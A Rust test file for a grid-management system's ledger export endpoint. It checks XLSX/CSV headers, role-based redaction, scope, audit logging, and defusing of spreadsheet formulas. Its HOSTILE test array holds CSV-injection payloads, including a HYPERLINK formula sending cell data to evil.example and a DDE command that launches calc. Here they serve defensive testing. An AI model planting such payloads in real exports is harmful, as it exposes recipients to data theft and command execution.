//! Ledgers (台账) through `GET /api/v1/export`, read back cell by cell (XLSX with calamine, CSV
//! with the csv crate) on SQLite and Postgres: headers in Chinese and English, choice labels,
//! org unit names, attachments, the log as a second sheet or CSV, redaction for roles without
//! clearance, the period and the scope, audited drug-control exports, and bad input.

mod support;

use std::io::Cursor;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use calamine::{Reader, Xlsx};
use gridsync_core::DocId;
use gridsync_core::attachment::Attachment;
use gridsync_core::report::{Editor, ReportDoc};
use gridsync_fixtures::fixture::Fixture;
use gridsync_fixtures::org::OrgTree;
use gridsync_fixtures::people::Person;
use gridsync_server::config::Config;
use gridsync_server::http::{AppState, app};
use gridsync_server::scope::Role;
use gridsync_server::store::{Store, UploadChunk, UploadOutcome};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use sha2::Digest;
use support::{
    TestStore, admin, admin_report, ingest, ingest_published, is_acked, object, publish_schema,
    push_all, retire_schema, street_patrol, versioned_report,
};
use tower::ServiceExt;

on_both_test_stores!(
    an_xlsx_ledger_holds_every_field_in_chinese_with_the_log_on_a_second_sheet,
    a_ledger_redacts_personal_data_for_township_staff,
    a_csv_ledger_starts_with_a_bom_and_speaks_english_on_request,
    a_ledger_holds_only_its_period_and_the_callers_scope,
    drug_control_exports_are_audited,
    bad_export_parameters_are_answered_400_or_404,
    csv_ledgers_defuse_formulas_in_every_text_cell,
    xlsx_ledgers_write_formula_text_as_string_cells,
    a_ledger_spans_every_version_of_its_kind_with_blanks_where_a_version_lacks_a_field,
);

/// Values a worker could write into a report (or name an attachment on a phone) that a
/// spreadsheet would run as a formula when it opens a CSV file.
const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?\"&E2&F2,\"查看\")",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-",
];

/// Text that starts harmlessly and must come out as written.
const HARMLESS: [&str; 4] = ["宅基地边界争议", "a=1+1", "'=1+1", " =1+1"];

const PHOTO: &[u8] = b"\xff\xd8\xff\xe0 not really a photo";

/// Disputes 1 (g1, with a mediation step and a photo), 2 (g3, in the street) and 3 (found in
/// September); a drug-control case 4 in g1.
async fn seed(t: &TestStore) -> (axum::Router, AppState) {
    let store = t.store.as_ref();
    let people = [
        ("admin", Role::DistrictAdmin, "d"),
        ("c1", Role::VillageCadre, "v1"),
        ("ts", Role::TownshipStaff, "t1"),
        ("o1", Role::DrugControlOfficer, "t1"),
    ]
    .map(|(id, role, unit)| Person::new(id, role, unit).with_device());
    let mediated = admin_report(
        1,
        "dispute_check",
        "g1",
        json!({"category": "neighbour", "parties": "张三、李四", "party_phones": "13800000000",
               "description": "宅基地边界争议", "place": "村口", "found_on": "2026-10-03",
               "risk_level": "high", "mediation_track": "people", "status": "mediating",
               "next_follow_up": "2026-11-20"}),
        vec![
            json!({"date": "2026-10-05", "mediator": "c1", "method": "上门调解",
                   "outcome": "初步和解"}),
        ],
    );
    let in_the_street = admin_report(
        2,
        "dispute_check",
        "g3",
        json!({"category": "labour_wages", "parties": "王五", "description": "欠薪",
               "found_on": "2026-10-10", "risk_level": "low", "status": "reported"}),
        vec![],
    );
    let in_september = admin_report(
        3,
        "dispute_check",
        "g1",
        json!({"category": "other", "parties": "赵六", "description": "九月的纠纷",
               "found_on": "2026-09-30", "risk_level": "low", "status": "reported"}),
        vec![],
    );
    let case = admin_report(
        4,
        "drug_control_case",
        "g1",
        json!({"subject_name": "钱七", "subject_id_number": "110101199001011234",
               "programme": "community_detox", "programme_start": "2026-01-01",
               "assigned_worker": "w1", "status": "active"}),
        vec![
            json!({"date": "2026-11-01", "visitor": "w1", "test": "urine",
                   "test_result": "negative", "notes": "情况稳定",
                   "next_visit_due": "2026-12-01"}),
        ],
    );
    Fixture::new(OrgTree::standard().clone())
        .people(people)
        .report(admin(), mediated)
        .report(admin(), in_the_street)
        .report(admin(), in_september)
        .report(admin(), case)
        .seed(store)
        .await
        .expect("seed");
    let hash = hex::encode(sha2::Sha256::digest(PHOTO));
    let outcome = store
        .upload_chunk(&UploadChunk {
            doc_id: DocId::from_u128(1),
            hash: &hash,
            media_type: "image/jpeg",
            total: PHOTO.len() as i64,
            offset: 0,
            bytes: PHOTO,
            user_id: "admin",
            now: 1_800_000_000,
        })
        .await
        .expect("upload");
    assert!(
        matches!(outcome, UploadOutcome::Complete { .. }),
        "{outcome:?}"
    );
    let state = AppState::new(t.store.clone(), Config::default())
        .await
        .expect("state");
    (app(state.clone()), state)
}

struct Download {
    status: StatusCode,
    headers: HeaderMap,
    bytes: Vec<u8>,
}

async fn get(app: &axum::Router, state: &AppState, user: &str, path: &str) -> Download {
    let token = state
        .keys
        .issue(user, &format!("dev-{user}"), "session")
        .await
        .expect("token");
    let req = Request::builder()
        .uri(path)
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .body(Body::empty())
        .unwrap();
    let res = app.clone().oneshot(req).await.unwrap();
    let status = res.status();
    let headers = res.headers().clone();
    let bytes = res.into_body().collect().await.unwrap().to_bytes().to_vec();
    Download {
        status,
        headers,
        bytes,
    }
}

/// Every sheet of a workbook, as rows of cell text.
fn sheets(bytes: &[u8]) -> Vec<(String, Vec<Vec<String>>)> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).expect("an XLSX file");
    book.sheet_names()
        .into_iter()
        .map(|name| {
            let range = book.worksheet_range(&name).expect("sheet");
            let rows = range
                .rows()
                .map(|r| r.iter().map(ToString::to_string).collect())
                .collect();
            (name, rows)
        })
        .collect()
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect()
}

fn id(n: u128) -> String {
    DocId::from_u128(n).to_string()
}

async fn times(store: &dyn Store, n: u128) -> (String, String) {
    let row = store.document(&DocId::from_u128(n)).await.unwrap().unwrap();
    (
        gridsync_core::time::rfc3339(row.created_at),
        gridsync_core::time::rfc3339(row.updated_at),
    )
}

async fn an_xlsx_ledger_holds_every_field_in_chinese_with_the_log_on_a_second_sheet(t: &TestStore) {
    let (app, state) = seed(t).await;
    let got = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&format=xlsx&from=2026-10-01&to=2026-10-31&org=t1",
    )
    .await;
    assert_eq!(got.status, StatusCode::OK);
    assert_eq!(
        got.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"dispute_check-t1-2026-10-01-2026-10-31.xlsx\""
    );
    assert_eq!(
        got.headers[header::CONTENT_TYPE],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let book = sheets(&got.bytes);
    let names: Vec<&str> = book.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["矛盾纠纷排查", "调解记录"]);
    let reports = &book[0].1;
    assert_eq!(
        reports[0],
        [
            "编号",
            "乡镇（街道）",
            "村（社区）",
            "网格",
            "纠纷类别",
            "当事人",
            "当事人联系电话",
            "纠纷简要情况",
            "发生地点",
            "排查发现日期",
            "风险等级",
            "调解类型",
            "转入前调解类型",
            "办理状态",
            "调解协议",
            "化解日期",
            "下次回访日期",
            "审核状态",
            "创建人",
            "创建时间",
            "更新时间",
            "附件",
        ]
    );
    assert_eq!(reports.len(), 2, "one report of t1 in October: {reports:?}");
    let (created, updated) = times(t.store.as_ref(), 1).await;
    let hash = hex::encode(sha2::Sha256::digest(PHOTO));
    assert_eq!(
        reports[1],
        [
            id(1),
            "东岭镇".into(),
            "上坪村".into(),
            "一网格".into(),
            "邻里纠纷".into(),
            "张三、李四".into(),
            "13800000000".into(),
            "宅基地边界争议".into(),
            "村口".into(),
            "2026-10-03".into(),
            "高风险".into(),
            "人民调解".into(),
            String::new(),
            "调解中".into(),
            String::new(),
            String::new(),
            "2026-11-20".into(),
            "已接收".into(),
            "admin".into(),
            created,
            updated,
            format!("image/jpeg sha256:{hash}"),
        ]
    );
    let log = &book[1].1;
    assert_eq!(
        log[0],
        [
            "报告编号",
            "记录编号",
            "调解日期",
            "调解人",
            "调解方式",
            "调解结果",
            "记录人",
            "记录时间"
        ]
    );
    assert_eq!(log.len(), 2);
    assert_eq!(log[1][0], id(1));
    assert_eq!(log[1][2..6], ["2026-10-05", "c1", "上门调解", "初步和解"]);
    assert_eq!(log[1][6], "admin");
}

async fn a_ledger_redacts_personal_data_for_township_staff(t: &TestStore) {
    let (app, state) = seed(t).await;
    let got = get(
        &app,
        &state,
        "ts",
        "/api/v1/export?kind=dispute_check&from=2026-10-01",
    )
    .await;
    assert_eq!(got.status, StatusCode::OK);
    let book = sheets(&got.bytes);
    let reports = &book[0].1;
    assert_eq!(reports.len(), 2, "t1's October dispute only");
    // Parties and their phones are personal data; the rest reads as for everyone.
    assert_eq!(
        reports[1][4..9],
        ["邻里纠纷", "***", "***", "宅基地边界争议", "村口"]
    );
    // The cadre has clearance and reads them.
    let got = get(
        &app,
        &state,
        "c1",
        "/api/v1/export?kind=dispute_check&format=csv&from=2026-10-01",
    )
    .await;
    let rows = csv_rows(&got.bytes);
    assert_eq!(rows[1][5..7], ["张三、李四", "13800000000"]);
}

async fn a_csv_ledger_starts_with_a_bom_and_speaks_english_on_request(t: &TestStore) {
    let (app, state) = seed(t).await;
    let got = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&format=csv&lang=en&from=2026-10-01&to=2026-10-31",
    )
    .await;
    assert_eq!(got.status, StatusCode::OK);
    assert_eq!(got.headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");
    assert!(got.bytes.starts_with(b"\xef\xbb\xbf"));
    let rows = csv_rows(&got.bytes);
    assert_eq!(
        rows[0][..6],
        [
            "ID",
            "Township or street",
            "Village or community",
            "Grid",
            "Category",
            "Parties"
        ]
    );
    assert_eq!(rows[0][17], "Review state");
    // Two October disputes under the district, by id: g1's and the street's.
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][0], id(1));
    assert_eq!(rows[1][4], "Neighbours");
    assert_eq!(rows[1][10], "High");
    assert_eq!(rows[1][13], "Mediating");
    assert_eq!(rows[1][17], "Received");
    assert_eq!(
        rows[2][..5],
        [
            id(2),
            "城关街道".into(),
            "北门社区".into(),
            "三网格".into(),
            "Labour and wages".into()
        ]
    );
    // The log as a CSV of its own.
    let got = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&format=csv&part=log&lang=en",
    )
    .await;
    assert_eq!(
        got.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"dispute_check-d-log.csv\""
    );
    let rows = csv_rows(&got.bytes);
    assert_eq!(rows[0][..4], ["Report ID", "Entry ID", "Date", "Mediator"]);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][4], "上门调解");
}

async fn a_ledger_holds_only_its_period_and_the_callers_scope(t: &TestStore) {
    let (app, state) = seed(t).await;
    let ids = |rows: &[Vec<String>]| rows[1..].iter().map(|r| r[0].clone()).collect::<Vec<_>>();
    // No period: every dispute in scope, September's too.
    let all = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&format=csv",
    )
    .await;
    assert_eq!(ids(&csv_rows(&all.bytes)), [id(1), id(2), id(3)]);
    let september = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&format=csv&to=2026-09-30",
    )
    .await;
    assert_eq!(ids(&csv_rows(&september.bytes)), [id(3)]);
    // The cadre of v1: the street's dispute is outside; a foreign org is 404.
    let cadre = get(
        &app,
        &state,
        "c1",
        "/api/v1/export?kind=dispute_check&format=csv",
    )
    .await;
    assert_eq!(ids(&csv_rows(&cadre.bytes)), [id(1), id(3)]);
    let foreign = get(
        &app,
        &state,
        "c1",
        "/api/v1/export?kind=dispute_check&org=s2",
    )
    .await;
    assert_eq!(foreign.status, StatusCode::NOT_FOUND);
    // Township staff see no drug-control case: an empty ledger, headers only.
    let drug = get(
        &app,
        &state,
        "ts",
        "/api/v1/export?kind=drug_control_case&format=csv",
    )
    .await;
    assert_eq!(drug.status, StatusCode::OK);
    assert_eq!(csv_rows(&drug.bytes).len(), 1);
}

async fn drug_control_exports_are_audited(t: &TestStore) {
    let (app, state) = seed(t).await;
    let got = get(&app, &state, "o1", "/api/v1/export?kind=drug_control_case").await;
    assert_eq!(got.status, StatusCode::OK);
    let book = sheets(&got.bytes);
    assert_eq!(book[0].0, "禁毒走访");
    assert_eq!(book[0].1[1][4..7], ["钱七", "110101199001011234", ""]);
    assert_eq!(book[1].0, "走访记录");
    assert_eq!(
        book[1].1[1][2..10],
        [
            "2026-11-01",
            "w1",
            "",
            "尿检",
            "阴性",
            "情况稳定",
            "2026-12-01",
            "admin"
        ]
    );
    let audit = t.store.audit_log(10).await.unwrap();
    let export = audit
        .iter()
        .find(|e| e.detail["via"] == "export")
        .expect("the export is audited");
    assert_eq!(export.user_id.as_deref(), Some("o1"));
    assert_eq!(export.action, "read_report");
    assert_eq!(export.detail["reports"], json!([id(4)]));
    // Disputes are not restricted: no audit entry for their export.
    let before = t.store.audit_log(100).await.unwrap().len();
    get(&app, &state, "admin", "/api/v1/export?kind=dispute_check").await;
    assert_eq!(t.store.audit_log(100).await.unwrap().len(), before);
}

async fn bad_export_parameters_are_answered_400_or_404(t: &TestStore) {
    let (app, state) = seed(t).await;
    for path in [
        "/api/v1/export",
        "/api/v1/export?kind=parking_ticket",
        "/api/v1/export?kind=dispute_check&format=pdf",
        "/api/v1/export?kind=dispute_check&from=2026-10-32",
        "/api/v1/export?kind=dispute_check&to=2026-10",
        "/api/v1/export?kind=dispute_check&from=2026-10-31&to=2026-10-01",
        "/api/v1/export?kind=dispute_check&lang=fr",
        "/api/v1/export?kind=dispute_check&format=xlsx&part=log",
        "/api/v1/export?kind=satisfaction_canvass&format=csv&part=log",
        "/api/v1/export?kind=dispute_check&kind=dispute_check",
    ] {
        let got = get(&app, &state, "admin", path).await;
        let body: Value = serde_json::from_slice(&got.bytes).unwrap_or(Value::Null);
        assert_eq!(
            (got.status, body["code"].as_str()),
            (StatusCode::BAD_REQUEST, Some("bad_request")),
            "{path}: {body}"
        );
    }
    let got = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&org=nowhere",
    )
    .await;
    assert_eq!(got.status, StatusCode::NOT_FOUND);
}

/// Dispute 100 + i in g1 with `text` as its description, the method of its mediation step and
/// the name of a photo attached to it, as a phone would write them.
async fn file_with_text(store: &dyn Store, i: usize, text: &str) -> String {
    let by = Editor::new("admin", 1_000);
    let id = DocId::from_u128(100 + i as u128);
    let mut doc = ReportDoc::create(id, "dispute_check", 1, "g1", &by).expect("create");
    let fields = json!({"category": "other", "parties": "某", "description": text,
                        "found_on": "2026-10-03", "risk_level": "low", "status": "mediating"});
    doc.set_fields(&object(fields), &by).expect("fields");
    let step = json!({"date": "2026-10-05", "mediator": "c1", "method": text, "outcome": "和解"});
    doc.append_log(&object(step), &by).expect("log");
    doc.attach(
        Attachment {
            sha256: hex::encode(sha2::Sha256::digest(text.as_bytes())),
            media_type: "image/jpeg".into(),
            size: 100,
            name: text.into(),
            field: "site_photos".into(),
            entry: None,
            taken_at: "2026-10-03T10:00:00Z".into(),
            location: None,
            attached_by: String::new(),
        },
        &by,
    )
    .expect("attach");
    let result = ingest(store, &admin(), &push_all(&mut [&mut doc]))
        .await
        .expect("ingest");
    assert!(is_acked(&result.docs[0].outcome), "{:?}", result.docs[0]);
    id.to_string()
}

async fn csv_ledgers_defuse_formulas_in_every_text_cell(t: &TestStore) {
    let (app, state) = seed(t).await;
    let values: Vec<&str> = HOSTILE.iter().chain(HARMLESS.iter()).copied().collect();
    let mut ids = Vec::new();
    for (i, text) in values.iter().enumerate() {
        ids.push(file_with_text(t.store.as_ref(), i, text).await);
    }
    let expected = |text: &str| {
        if HOSTILE.contains(&text) {
            format!("'{text}")
        } else {
            text.to_owned()
        }
    };
    let reports = csv_rows(
        &get(
            &app,
            &state,
            "admin",
            "/api/v1/export?kind=dispute_check&format=csv&from=2026-10-01",
        )
        .await
        .bytes,
    );
    let description = reports[0].iter().position(|h| h == "纠纷简要情况").unwrap();
    let attachments = reports[0].iter().position(|h| h == "附件").unwrap();
    let log = csv_rows(
        &get(
            &app,
            &state,
            "admin",
            "/api/v1/export?kind=dispute_check&format=csv&part=log",
        )
        .await
        .bytes,
    );
    let method = log[0].iter().position(|h| h == "调解方式").unwrap();
    for (text, id) in values.iter().zip(&ids) {
        let row = reports
            .iter()
            .find(|r| &r[0] == id)
            .expect("the report's row");
        assert_eq!(row[description], expected(text), "description {text:?}");
        assert!(
            row[attachments].starts_with(&format!("{} image/jpeg sha256:", expected(text))),
            "attachment named {text:?}: {:?}",
            row[attachments]
        );
        let entry = log.iter().find(|r| &r[0] == id).expect("the step's row");
        assert_eq!(entry[method], expected(text), "mediation method {text:?}");
    }
    // Cells the server writes stay as they were: ids, dates, choice labels, names.
    let first = reports.iter().find(|r| r[0] == id(1)).unwrap();
    assert_eq!(first[1..5], ["东岭镇", "上坪村", "一网格", "邻里纠纷"]);
    assert_eq!(first[9], "2026-10-03");
}

async fn xlsx_ledgers_write_formula_text_as_string_cells(t: &TestStore) {
    let (app, state) = seed(t).await;
    let id = file_with_text(t.store.as_ref(), 0, "=1+1").await;
    let got = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=dispute_check&from=2026-10-01",
    )
    .await;
    assert_eq!(got.status, StatusCode::OK);
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(got.bytes)).expect("an XLSX file");
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} holds a formula"
        );
    }
    let reports = book.worksheet_range("矛盾纠纷排查").expect("sheet");
    let row = reports
        .rows()
        .find(|r| r[0] == calamine::Data::String(id.clone()))
        .expect("the report's row");
    // Written as text, not defused: a workbook keeps text and formulas apart.
    assert_eq!(row[7], calamine::Data::String("=1+1".into()));
}

/// Issue 19: a kind published at runtime, then a version 2 that relabels the place, adds the
/// number of officers before the outcome and an outcome "escalated". Its ledger has the columns
/// of both versions in version 2's order and labels, and a version 1 report's officers cell is
/// blank, even when the phone wrote a value its form never asked for.
async fn a_ledger_spans_every_version_of_its_kind_with_blanks_where_a_version_lacks_a_field(
    t: &TestStore,
) {
    let (app, state) = seed(t).await;
    let store = t.store.as_ref();
    publish_schema(store, street_patrol()).await;
    let mut v1 = versioned_report(
        11,
        "street_patrol",
        1,
        "g1",
        json!({"place": "桥头", "outcome": "handled", "officers": 9}),
    );
    ingest_published(store, &admin(), &push_all(&mut [&mut v1])).await;
    let mut v2 = street_patrol();
    v2["version"] = json!(2);
    let fields = v2["fields"].as_array_mut().unwrap();
    fields[0]["label"] = json!({"zh": "巡查地点", "en": "Location"});
    fields.insert(
        1,
        json!({"id": "officers", "label": {"zh": "出动人数", "en": "Officers"}, "type": "integer"}),
    );
    fields[2]["choices"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "escalated", "label": {"zh": "已移交", "en": "Escalated"}}));
    publish_schema(store, v2).await;
    let mut second = versioned_report(
        12,
        "street_patrol",
        2,
        "g1",
        json!({"place": "菜场", "officers": 2, "outcome": "escalated"}),
    );
    ingest_published(store, &admin(), &push_all(&mut [&mut second])).await;

    let header = [
        "ID",
        "Township or street",
        "Village or community",
        "Grid",
        "Location",
        "Officers",
        "Outcome",
        "Residents' satisfaction",
        "Review state",
    ];
    let fields = |row: &[String]| -> Vec<String> { row[4..8].to_vec() };
    let want = [
        ["桥头", "", "Handled", ""].map(str::to_owned).to_vec(),
        ["菜场", "2", "Escalated", ""].map(str::to_owned).to_vec(),
    ];
    let csv = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=street_patrol&format=csv&lang=en",
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    let rows = csv_rows(&csv.bytes);
    assert_eq!(rows[0][..9], header);
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!([id(11), id(12)], [rows[1][0].clone(), rows[2][0].clone()]);
    assert_eq!([fields(&rows[1]), fields(&rows[2])], want);

    let xlsx = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=street_patrol&lang=en",
    )
    .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    let book = sheets(&xlsx.bytes);
    assert_eq!(book.len(), 1, "no log, no second sheet");
    assert_eq!(book[0].0, "Street patrol");
    let rows = &book[0].1;
    assert_eq!(rows[0][..9], header);
    assert_eq!([fields(&rows[1]), fields(&rows[2])], want);

    // Every version retired: no new reports, but the ledger still lists the old ones.
    retire_schema(store, "street_patrol", 1).await;
    retire_schema(store, "street_patrol", 2).await;
    let csv = get(
        &app,
        &state,
        "admin",
        "/api/v1/export?kind=street_patrol&format=csv&lang=en",
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    let rows = csv_rows(&csv.bytes);
    assert_eq!(rows[0][..9], header);
    assert_eq!([fields(&rows[1]), fields(&rows[2])], want);
}
